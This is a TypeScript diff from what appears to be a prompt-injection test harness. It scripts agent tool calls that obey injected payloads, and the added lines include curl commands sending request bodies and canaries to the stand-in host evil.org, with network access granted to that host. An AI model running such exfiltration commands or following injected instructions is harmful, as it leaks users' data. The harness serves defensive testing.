@@ -12,8 +12,11 @@ export interface Order {
   readonly says: string;
 }
 
-/** A command leaves this file behind where it runs. */
+/** A command leaves this file behind where it runs, and one that has asked for the network the other one. */
 export const traceOfCommand = "a-command-ran";
+export const traceWithNetwork = "a-command-ran-with-network";
+/** The host that an operator who trusts a lot has opened. */
+export const openedHost = "evil.org";
 
 /** The payloads with addresses that lead to the collector. */
 export function ordersFrom(payloads: readonly Payload[], collector: Collector): readonly Order[] {
@@ -42,13 +45,26 @@ function deeds(tries: Attempt, collector: Collector): Pick<Order, "calls" | "say
       const send = terminal(
         `curl -s -m 1 -d '${tries.body}' '${url}'; curl -s -m 1 'http://${collector.host}/?${tries.body}'`,
       );
-      return { says, calls: [fetches(query), send, ["http_request", { method: "POST", url, body: tries.body }]] };
+      return {
+        says,
+        calls: [
+          fetches(query),
+          send,
+          networked(`curl -s -m 1 'http://${openedHost}/?${tries.body}'`),
+          ["http_request", { method: "POST", url, body: tries.body }],
+        ],
+      };
     }
     case "reads": {
       const url = collector.here(tries.url);
       return {
         says,
-        calls: [fetches(url), ["web_extract", { url }], terminal(`curl -s -m 1 'http://${collector.host}/?${canary}'`)],
+        calls: [
+          fetches(url),
+          ["web_extract", { url }],
+          networked(`curl -s -m 1 'http://${openedHost}/?${canary}'`),
+          terminal(`curl -s -m 1 'http://${collector.host}/?${canary}'`),
+        ],
       };
     }
     case "sends": {
@@ -62,7 +78,7 @@ function deeds(tries: Attempt, collector: Collector): Pick<Order, "calls" | "say
     case "runs": {
       const command = tries.command.replace(/(https?:\/\/)?([\w-]+\.)*evil\.org/g, `http://${collector.host}`);
       const started = ["process", { action: "start", command: traced(command) }] as const;
-      return { says, calls: [terminal(command), tries.hasNetwork ? runsCode(collector) : started] };
+      return { says, calls: [terminal(command), networked(command), tries.hasNetwork ? runsCode(collector) : started] };
     }
     case "writes": {
       const { path, text, isInWorkspace } = tries;
@@ -109,6 +125,12 @@ function fetches(url: string) {
 
 function terminal(command: string) {
   return ["terminal", { command: traced(command), timeoutSeconds: 2 }] as const;
+}
+
+/** Asks for the host. */
+function networked(command: string) {
+  const traces = `touch ${traceWithNetwork}; ${command}`;
+  return ["terminal", { command: traces, timeoutSeconds: 2, network: [openedHost] }] as const;
 }
 
 /** Outside of a shell. */
